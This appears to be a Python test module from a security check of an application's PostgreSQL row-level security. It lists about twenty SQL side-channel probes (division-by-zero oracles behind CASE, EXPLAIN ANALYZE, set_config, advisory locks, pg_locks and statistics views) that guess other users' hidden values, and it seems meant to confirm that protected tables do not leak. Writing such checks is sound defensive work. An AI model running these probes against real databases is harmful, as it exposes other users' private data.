"""Guessing: conditions that are tried on everybody's rows, by who writes SQL on a table without a fence.

Row-level security keeps results back, not conditions. Each way asks whether somebody has a row with a guessed value: it
tells where a right guess is answered otherwise than a wrong one. In the SQL, ``{table}`` and ``{column}`` stand for what
is aimed at, ``{guess}`` for the guessed value.
"""

from dataclasses import dataclass

SCANNED = (
    "set local enable_indexscan = off",
    "set local enable_indexonlyscan = off",
    "set local enable_bitmapscan = off",
)
"""Small tables are read whole in any case; larger ones when they are told to be."""
_ANALYZE = "explain (analyze, costs off, timing off, summary off, buffers off)"
_QUOTED = "'{guess}'"
_RANGE = f"{{column}} >= {_QUOTED} and {{column}} <= {_QUOTED}"
_BOMB = f"case when {{column}} = {_QUOTED} then (select 1 / (select 0) = 1) end"
_SEEN = f"case when {{column}} = {_QUOTED} then (select set_config('app.seen', 'yes', true) = 'no') end"
_SPOILT = "select set_config('app.user_seal', 'x', true)"
_READ = "select 1 from {table} where"
_KEPT = (
    "select set_config('app.user_id', current_setting('app.user_id'), false) is null",
    "select set_config('app.user_seal', current_setting('app.user_seal'), false) is null",
    "commit",
    "begin isolation level serializable",
)
"""One's own identity, kept for a transaction of another kind."""


@dataclass(frozen=True)
class Way:
    """A way to guess: what is sent, in one transaction; whatever comes back is compared."""

    name: str
    steps: tuple[str, ...]


@dataclass(frozen=True)
class Target:
    """What is aimed at: a column, with a value that Bob has there and one as long that nobody has; ``title``: what the page calls it."""

    table: str
    column: str
    right: str
    wrong: str
    title: str
    fenced: bool = True

    def written(self, step: str, guess: str) -> str:
        """A step of a way, aimed here."""
        return step.replace("{table}", self.table).replace("{column}", self.column).replace("{guess}", guess)


TARGETS = (
    Target("app.todos", "title", "bob secret 7", "bob secret x", "app.todos", fenced=False),
    Target("app.secrets", "title", "bob secret 7", "bob secret x", "a fenced twin of it"),
    Target("app.account", "name", "Robert Secretly", "Robert Secretlx", "app.account"),
)


def _scanned(name: str, *steps: str) -> Way:
    return Way(name, (*SCANNED, *steps))


WAYS = (
    _scanned("EXPLAIN ANALYZE: whether the policy asked who acts", f"{_ANALYZE} {_READ} {_RANGE}"),
    _scanned("EXPLAIN ANALYZE: whether a sub-select of one's own ran", f"{_ANALYZE} {_READ} {_SEEN}"),
    _scanned("one's own seal spoilt: whether the policy asked who acts", _SPOILT, f"{_READ} {_RANGE}"),
    _scanned("one's own seal spoilt in the statement itself", f"{_READ} ({_SPOILT}) <> '' and {_RANGE}"),
    _scanned("no seal at all", "select set_config('app.user_seal', '', true)", f"{_READ} {_RANGE}"),
    _scanned("a division by zero of one's own, behind CASE", f"{_READ} {_BOMB}"),
    _scanned("the same in UPDATE", f"update {{table}} set {{column}} = {{column}} where {_BOMB}"),
    _scanned("the same in MERGE", f"merge into {{table}} using (values (1)) as v (n) on {_BOMB} when matched then do nothing"),
    _scanned("the same in UNION ALL", f"select 1 from (select {{column}} from {{table}} union all select {{column}} from {{table}}) as u where {_BOMB}"),
    _scanned("the same for a prepared statement's parameter", f"prepare p (text) as {_READ} {_BOMB.replace(_QUOTED, '$1')}", f"execute p ({_QUOTED})", "deallocate p"),
    _scanned("the same for a cursor", f"declare c cursor for {_READ} {_BOMB}", "fetch all from c"),
    _scanned("a list of one element", _SPOILT, f"{_READ} {{column}} = any (array[{_QUOTED}])"),
    _scanned("a subscript of jsonb", _SPOILT, f"{_READ} (jsonb_build_object({_QUOTED}, 1))[{{column}}] is not null"),
    _scanned("a leakproof function, by its name", _SPOILT, f"{_READ} texteq({{column}}, {_QUOTED})"),
    _scanned("a setting that a sub-select leaves", f"{_READ} {_SEEN}", "select current_setting('app.seen', true)"),
    _scanned(
        "an advisory lock that a sub-select takes, in pg_locks",
        f"{_READ} case when {{column}} = {_QUOTED} then (select pg_try_advisory_xact_lock(7)) end",
        "select count(*) from pg_locks where pid = pg_backend_pid() and locktype = 'advisory'",
    ),
    _scanned(
        "a transaction id that a sub-select takes",
        f"{_READ} case when {{column}} = {_QUOTED} then (select pg_current_xact_id()) is null end",
        "select pg_current_xact_id_if_assigned() is null",
    ),
    _scanned(
        "pg_stat_xact_user_tables: whether the seal was looked up",
        f"{_READ} {_RANGE}",
        "select relname, seq_scan, idx_scan from pg_stat_xact_user_tables where seq_scan + idx_scan > 0 order by 1",
    ),
    _scanned(
        "pg_stat_xact_user_tables: where in the table an error arose",
        f"{_READ} {_BOMB}",
        "select relname, seq_tup_read from pg_stat_xact_user_tables where seq_tup_read > 0 order by 1",
    ),
    Way(
        "pg_locks, serializable: whether the seal was looked up",
        (
            *_KEPT,
            *SCANNED,
            f"{_READ} {_RANGE}",
            "select relation, page, tuple from pg_locks where mode = 'SIReadLock' and pid = pg_backend_pid() order by 1, 2, 3",
        ),
    ),
)  # fmt: skip
"""Each tells of app.todos, and of nothing behind a fence."""
